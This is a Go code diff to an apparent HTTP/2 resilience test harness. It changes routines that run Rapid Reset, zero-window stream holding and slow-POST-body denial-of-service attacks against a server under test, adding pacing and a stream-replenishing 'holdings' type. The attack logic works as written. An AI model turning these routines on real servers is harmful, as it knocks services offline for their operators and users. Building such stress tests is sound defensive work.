@@ -180,6 +180,10 @@ func tableSize(ctx context.Context, t *target) {
 	})
 }
 
+// resetPause is between two bursts of fifty, on each of eight connections: 20 000
+// requests a second. Any number is too many for a machine that is slow enough.
+const resetPause = 20 * time.Millisecond
+
 func rapidReset(ctx context.Context, t *target) {
 	reset, thrown := t.counter("resets"), t.counter("closed by p")
 	crowd(ctx, 8, func(ctx context.Context, i int) error {
@@ -188,7 +192,14 @@ func rapidReset(ctx context.Context, t *target) {
 			return err
 		}
 		go h.read(nil) // ends with the connection
+		tick := time.NewTicker(resetPause)
+		defer tick.Stop()
 		for {
+			select {
+			case <-tick.C:
+			case <-ctx.Done():
+				return ctx.Err()
+			}
 			err := h.do(func() {
 				for range 50 {
 					id := h.open(true, "GET", "/"+bigFile)
@@ -297,22 +308,26 @@ func h2Bombs(ctx context.Context, t *target) {
 	})
 }
 
-// hold opens streams on one connection and keeps them; it returns when p has
-// closed it.
-func (t *target) hold(ctx context.Context, again bool, settings []http2.Setting, open func(h *h2)) error {
+// holdAgain is how often an attacker takes again what was taken from it.
+const holdAgain = time.Second
+
+// hold opens streams on one connection and keeps as many of them; it returns
+// when p has closed the connection.
+func (t *target) hold(ctx context.Context, settings []http2.Setting, open func(h *h2) uint32) error {
 	h, err := t.dialH2(ctx, attackerAddr(0, 1), settings...)
 	if err != nil {
 		return err
 	}
-	err = h.do(func() {
-		for range holdStreams {
-			open(h)
-		}
+	held := newHoldings(t)
+	// Ends with ctx, which ends with this connection's turn.
+	go held.keep(ctx, func(n int) (ids []uint32) {
+		h.do(func() {
+			for range n {
+				ids = append(ids, open(h))
+			}
+		})
+		return ids
 	})
-	if err != nil {
-		return err
-	}
-	t.count("held", holdStreams)
 	return h.read(func(f http2.Frame) {
 		switch f.(type) {
 		case *http2.RSTStreamFrame:
@@ -320,24 +335,75 @@ func (t *target) hold(ctx context.Context, again bool, settings []http2.Setting,
 		case *http2.HeadersFrame:
 			t.count("heads", 1)
 		}
-		if ended(f) && again && ctx.Err() == nil {
-			h.do(func() { open(h) })
-			t.count("held", 1)
+		if ended(f) {
+			held.end(f.Header().StreamID)
 		}
 	})
 }
 
+// holdings are the streams of one connection whose attacker wants holdStreams of
+// them.
+type holdings struct {
+	t *target
+
+	mu   sync.Mutex
+	open map[uint32]bool // guarded by mu
+	lost map[uint32]bool // guarded by mu; those that ended before keep knew them
+}
+
+func newHoldings(t *target) *holdings {
+	return &holdings{t: t, open: map[uint32]bool{}, lost: map[uint32]bool{}}
+}
+
+// keep opens those that are missing, every holdAgain until ctx ends.
+func (s *holdings) keep(ctx context.Context, open func(n int) []uint32) {
+	tick := time.NewTicker(holdAgain)
+	defer tick.Stop()
+	for {
+		s.mu.Lock()
+		n := holdStreams - len(s.open)
+		s.mu.Unlock()
+		// Without the lock: it may have to wait until p's answers are read.
+		ids := open(n)
+		s.mu.Lock()
+		for _, id := range ids {
+			if !s.lost[id] {
+				s.open[id] = true
+			}
+		}
+		clear(s.lost)
+		s.mu.Unlock()
+		s.t.count("requests", int64(n))
+		select {
+		case <-tick.C:
+		case <-ctx.Done():
+			return
+		}
+	}
+}
+
+// end says that a stream has ended.
+func (s *holdings) end(id uint32) {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	if !s.open[id] {
+		s.lost[id] = true
+	}
+	delete(s.open, id)
+}
+
 func noWindow(ctx context.Context, t *target) {
 	crowd(ctx, holdConns, func(ctx context.Context, i int) error {
-		return t.hold(ctx, true, []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}, func(h *h2) { h.open(true, "GET", "/"+bigFile) })
+		return t.hold(ctx, []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}, func(h *h2) uint32 { return h.open(true, "GET", "/"+bigFile) })
 	})
 }
 
 func slowBodies(ctx context.Context, t *target) {
 	crowd(ctx, holdConns, func(ctx context.Context, i int) error {
-		return t.hold(ctx, false, nil, func(h *h2) {
+		return t.hold(ctx, nil, func(h *h2) uint32 {
 			id := h.open(false, "POST", "/"+smallFile, "content-length", "1000")
 			h.fr.WriteData(id, false, []byte("x"))
+			return id
 		})
 	})
 }
